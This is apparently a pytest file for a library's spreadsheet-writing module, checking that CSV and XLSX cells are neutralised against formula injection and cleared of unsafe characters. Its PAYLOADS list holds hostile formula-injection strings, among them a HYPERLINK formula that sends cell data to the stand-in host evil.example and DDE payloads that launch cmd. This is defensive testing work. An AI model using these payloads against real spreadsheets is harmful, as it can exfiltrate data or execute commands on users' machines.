"""Spreadsheet cells piplkit writes: formulas neutralised (OWASP), unsafe characters replaced."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from piplkit.assess.sheets import Sheet, clean_text, neutralise, safe_cell, write_csv, write_xlsx
from piplkit.assess.sheets.cells import FORMULA_TRIGGERS, UNSAFE_CHARACTERS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def test_every_payload_gets_an_apostrophe() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload


def test_harmless_text_and_numbers_are_unchanged() -> None:
    for text in ("会员管理", "a=b", "1-2", "", " plain", "'quoted"):
        assert neutralise(text) == text
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("-5") == "'-5"  # text that looks numeric stays text
    assert safe_cell(dt.date(2026, 1, 2)) == "2026-01-02"


def test_unsafe_characters_become_replacement_characters() -> None:
    assert clean_text("a\vb\x00c\x7fd\ufffee") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert clean_text("line one\nline two\tend\r") == "line one\nline two\tend\r"


@given(st.text())
def test_no_safe_cell_can_start_a_formula_or_break_xml(text: str) -> None:
    value = safe_cell(text)
    assert isinstance(value, str)
    assert value.lstrip()[:1] not in FORMULA_TRIGGERS or value.startswith("'")
    assert value[:1] not in FORMULA_TRIGGERS
    assert not UNSAFE_CHARACTERS.search(value)


def _sheet() -> Sheet:
    return Sheet("活动", ["name", "count"], [[p, -3] for p in PAYLOADS] + [["a\vb\x00", None]])


def test_xlsx_holds_text_cells_and_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    write_xlsx(out, [_sheet()])
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(out)
    rows = list(book.active.iter_rows(min_row=2))
    for payload, (name, count) in zip(PAYLOADS, rows, strict=False):
        assert name.data_type == "s" and name.value == "'" + payload
        assert count.data_type == "n" and count.value == -3
    assert rows[-1][0].value == "a\ufffdb\ufffd"


def test_csv_quotes_text_and_neutralises(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_csv(out, _sheet())
    raw = out.read_text(encoding="utf-8-sig")
    assert re.search(r'^"name","count"\r?$', raw, re.M)
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-3' in raw
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[-1] == ["a\ufffdb\ufffd", ""]


def test_a_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old", encoding="utf-8")

    class Broken:
        def __str__(self) -> str:
            raise RuntimeError("boom")

    broken = Sheet("x", ["a"], [[Broken()]])  # type: ignore[list-item]
    with pytest.raises(RuntimeError, match="boom"):
        write_csv(out, broken)
    assert out.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


SPREADSHEET_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\("
)
#: Modules that may write spreadsheets without piplkit.assess.sheets: the user's own data rewritten
#: unchanged (deid), generated sample and evaluation data (no user input).
ALLOWED = {"sheets", "deid", "samples", "evaluation"}


def test_every_spreadsheet_writer_goes_through_piplkit_sheets() -> None:
    root = Path(__file__).resolve().parents[2] / "src" / "piplkit"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not ALLOWED.intersection(path.relative_to(root).parts[:2])
        and SPREADSHEET_WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
